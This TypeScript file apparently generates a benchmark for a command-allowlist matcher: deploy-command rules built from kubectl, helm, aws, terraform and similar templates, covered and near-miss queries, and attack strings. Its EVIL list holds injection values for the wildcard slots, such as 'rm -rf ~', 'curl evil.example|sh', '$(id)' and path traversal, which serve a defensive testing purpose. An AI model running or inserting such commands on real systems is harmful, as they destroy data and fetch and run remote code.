/**
 * Rules and commands for the benchmark: 24 kinds of deploy commands, each for many services and namespaces, and
 * questions of which nine in ten are covered. The same numbers give the same workload.
 */
export function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SUBJECTS =
  'orders payments users search mail stock prices carts reviews photos maps chat billing audit metrics tickets'.split(
    ' ',
  );
const ROLES = 'api web worker jobs proxy feed'.split(' ');
const SPACES = 'prod staging dev qa prod-eu prod-us canary demo'.split(' ');

const service = (i: number): string => {
  const round = Math.floor(i / (SUBJECTS.length * ROLES.length));
  const name = `${SUBJECTS[i % SUBJECTS.length]}-${ROLES[Math.floor(i / SUBJECTS.length) % ROLES.length]}`;
  return round === 0 ? name : `${name}-${round}`;
};

/** Each is a rule for a service in a namespace; `*` stands for a tag, a version, a number or a host. */
const KINDS: ((service: string, space: string) => string)[] = [
  (s, n) => `kubectl set image deployment/${s} ${s}=registry.example.com/${s}:* -n ${n}`,
  (s, n) => `kubectl rollout restart deployment/${s} -n ${n}`,
  (s, n) => `kubectl rollout status deployment/${s} -n ${n} --timeout=*`,
  (s, n) => `kubectl scale deployment/${s} --replicas=* -n ${n}`,
  (s, n) => `kubectl exec deploy/${s} -n ${n} -- bin/migrate --to *`,
  (s, n) => `kubectl logs deployment/${s} -n ${n} --since=*`,
  (s, n) => `helm upgrade ${s} ./chart --namespace ${n} --set image.tag=*`,
  (s, n) => `helm upgrade ${s} oci://registry.example.com/charts/${s} --version * --namespace ${n} --wait`,
  (s, n) => `helm rollback ${s} * --namespace ${n}`,
  (s, n) => `aws s3 sync dist/ s3://${s}-${n}-assets --delete`,
  (s, n) => `aws s3 cp build/${s}-*.tar.gz s3://${n}-releases/${s}/`,
  (s, n) => `aws ecs update-service --cluster ${n} --service ${s} --task-definition ${s}:*`,
  (s, n) =>
    `aws lambda update-function-code --function-name ${s}-${n} --s3-bucket ${n}-releases --s3-key ${s}-*.zip`,
  (s, n) => `docker push registry.example.com/${n}/${s}:*`,
  (s, n) => `docker build -t registry.example.com/${n}/${s}:* --file Dockerfile.${s} .`,
  (s, n) => `terraform apply -auto-approve -var-file=${n}.tfvars -target=module.${s}`,
  (s, n) => `terraform plan -out=${s}-*.tfplan -var-file=${n}.tfvars`,
  (s, n) => `gcloud run deploy ${s} --image=gcr.io/acme-${n}/${s}:* --region=* --quiet`,
  (s, n) => `gcloud app deploy ${s}.yaml --project acme-${n} --version *`,
  (s, n) => `flyctl deploy --app ${s}-${n} --image registry.example.com/${s}:* --strategy rolling`,
  (s, n) => `npm run deploy --workspace ${s} -- --env=${n} --sha=*`,
  (s, n) => `psql -h ${s}.${n}.db.internal -d ${s} -f migrations/latest.sql`,
  (s, n) => `ssh deploy@* systemctl restart ${s}-${n}`,
  (s, n) => `./scripts/deploy.sh ${s} ${n} * --confirm`,
];

/** So many distinct rules; every kind is present in every number. */
export const makeRules = (count: number): string[] =>
  Array.from({ length: count }, (_, i) => {
    const k = Math.floor(i / KINDS.length);
    const kind = KINDS[i % KINDS.length] as (service: string, space: string) => string;
    return kind(service(Math.floor(k / SPACES.length)), SPACES[k % SPACES.length] as string);
  });

function value(next: () => number): string {
  const number = (below: number): number => Math.floor(next() * below);
  switch (number(5)) {
    case 0:
      return `v${number(20)}.${number(50)}.${number(100)}`;
    case 1:
      return Array.from({ length: 12 }, () => '0123456789abcdef'[number(16)]).join('');
    case 2:
      return `2026-0${1 + number(9)}-1${number(10)}.${number(999)}`;
    case 3:
      return String(1 + number(300));
    default:
      return `release-${number(9000)}`;
  }
}

export const fill = (rule: string, next: () => number): string => rule.replace(/\*/g, () => value(next));

/** A near miss that is one whatever a `*` may take: something else is changed. */
function spoil(rule: string, next: () => number): string {
  const words = fill(rule, next).split(' ');
  const kind = Math.floor(next() * 4);
  if (kind === 0) return ['sudo', ...words].join(' ');
  if (kind === 1) return [words[0], '--debug', ...words.slice(1)].join(' ');
  if (kind === 2 && !rule.endsWith('*')) return `${words.join(' ')} --force-now`;
  const literal = rule.split(' ').flatMap((word, i) => (i > 0 && !word.includes('*') ? [i] : []));
  const at = literal[Math.floor(next() * literal.length)] ?? 0;
  return words.with(at, `${words[at]}x9q`).join(' ');
}

export interface Question {
  text: string;
  covered: boolean;
}

/** Questions over rules drawn uniformly: no rule is asked more than another. */
export function makeQuestions(rules: readonly string[], count: number, seed = 7): Question[] {
  const next = random(seed);
  return Array.from({ length: count }, () => {
    const rule = rules[Math.floor(next() * rules.length)] as string;
    const covered = next() < 0.9;
    return { text: covered ? fill(rule, next) : spoil(rule, next), covered };
  });
}

const EVIL = [
  'v1 ; rm -rf ~',
  'v1 && curl evil.example|sh',
  'v1\nid',
  '$(id)',
  '`id`',
  'v1 --kubeconfig=evil',
  'v1;id',
  'v1|sh',
  'v1&id',
  'v1>x',
  'v1 -x',
  '../x',
  'v1,x=y',
  'a:b',
  '{a,b}',
  'v1 ~',
  "'a b'",
  'v1#x@y',
  'é',
  '\u200b',
];

/** Covered commands with an attack where a `*` stood. None may be covered. */
export function makeAttacks(rules: readonly string[], count: number, seed = 11): string[] {
  const next = random(seed);
  const open = rules.filter((rule) => rule.includes('*'));
  return Array.from({ length: count }, (_, i) => {
    const rule = open[Math.floor(next() * open.length)] as string;
    return rule.replaceAll('*', () => EVIL[i % EVIL.length] as string);
  });
}
